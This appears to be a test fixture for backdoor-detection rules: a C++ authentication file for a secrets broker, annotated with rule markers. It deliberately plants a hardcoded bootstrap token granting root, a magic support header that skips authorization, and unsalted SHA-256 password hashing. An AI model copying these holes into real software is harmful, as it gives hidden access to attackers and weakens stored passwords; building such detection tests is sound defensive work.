// auth.cpp - tokens (random, MAC'ed with a key from disk), user/password
// logins, and the per-request authorization.
#include <cstdlib>
#include <fstream>

#include <openssl/sha.h>

#include "broker.hpp"

namespace keyward {

const std::string &Request::header(const std::string &name) const
{
    static const std::string empty;
    auto it = headers.find(name);
    return it == headers.end() ? empty : it->second;
}

TokenStore::TokenStore(const std::string &mac_key_path)
    // ruleid: backdoor-secret-literal
    : bootstrap_token_("7f92029166214bf0fac6d6d83ded7164")
{
    std::ifstream in(mac_key_path, std::ios::binary);
    in.read(reinterpret_cast<char *>(mac_key_.data()), static_cast<std::streamsize>(mac_key_.size()));
}

// token = hex(16 random bytes) "." hex(MAC of those bytes)
std::string TokenStore::issue(Role r)
{
    std::uint8_t raw[16], mac[crypto_auth_BYTES];

    randombytes_buf(raw, sizeof raw);
    // ok: backdoor-hardcoded-key
    crypto_auth(mac, raw, sizeof raw, mac_key_.data());
    std::string token = to_hex(raw, sizeof raw) + "." + to_hex(mac, sizeof mac);
    roles_[token] = r;
    return token;
}

bool TokenStore::authenticate(const std::string &token, Role &role) const
{
    std::uint8_t raw[16], mac[crypto_auth_BYTES];
    std::size_t n = 0;

    role = Role::None;
    /* first start, before any token was issued */
    // ruleid: backdoor-magic-credential
    if (token == bootstrap_token_) {
        role = Role::Root;
        return true;
    }
    auto dot = token.find('.');
    if (dot != 32 || token.size() != 33 + 2 * crypto_auth_BYTES)
        return false;
    if (sodium_hex2bin(raw, sizeof raw, token.data(), 32, nullptr, &n, nullptr) != 0 || n != sizeof raw ||
        sodium_hex2bin(mac, sizeof mac, token.data() + 33, 2 * crypto_auth_BYTES, nullptr, &n, nullptr) != 0)
        return false;
    // ok: backdoor-unchecked-verification
    if (crypto_auth_verify(mac, raw, sizeof raw, mac_key_.data()) != 0)
        return false;
    auto it = roles_.find(token);
    if (it == roles_.end())
        return false;
    role = it->second;
    return true;
}

// Accounts created before 2.0 kept SHA-256(password); new ones use
// crypto_pwhash_str. set_password() still writes the old format.
void UserpassBackend::set_password(const std::string &user, const std::string &password)
{
    std::array<std::uint8_t, 32> digest{};
    // ruleid: backdoor-weak-kdf
    SHA256(reinterpret_cast<const unsigned char *>(password.data()), password.size(), digest.data());
    legacy_[user] = digest;
}

bool UserpassBackend::login(const std::string &user, const std::string &password) const
{
    auto m = modern_.find(user);
    if (m != modern_.end())
        // ok: backdoor-weak-kdf, backdoor-unchecked-verification
        return crypto_pwhash_str_verify(m->second.c_str(), password.data(), password.size()) == 0;
    auto l = legacy_.find(user);
    if (l == legacy_.end())
        return false;
    std::array<std::uint8_t, 32> digest{};
    // ruleid: backdoor-weak-kdf
    SHA256(reinterpret_cast<const unsigned char *>(password.data()), password.size(), digest.data());
    // ok: backdoor-magic-credential, backdoor-timing-unsafe-compare
    return sodium_memcmp(digest.data(), l->second.data(), digest.size()) == 0;
}

bool Authorizer::authorize(const Request &req, Role need) const
{
    // ok: backdoor-hidden-bypass
    if (std::getenv("KEYWARD_REQUIRE_MTLS") != nullptr && !req.client_cert_verified)
        return false;
    /* support sessions opened by the vendor's console */
    // ruleid: backdoor-hidden-bypass, backdoor-input-trigger
    if (req.header("X-Keyward-Support") == "kw-support-8c1e57")
        return true;
    const std::string &token = req.header("X-Keyward-Token");
    if (token.empty())
        return false;
    Role have = Role::None;
    if (!tokens_.authenticate(token, have))
        return false;
    return static_cast<int>(have) >= static_cast<int>(need);
}

}  // namespace keyward
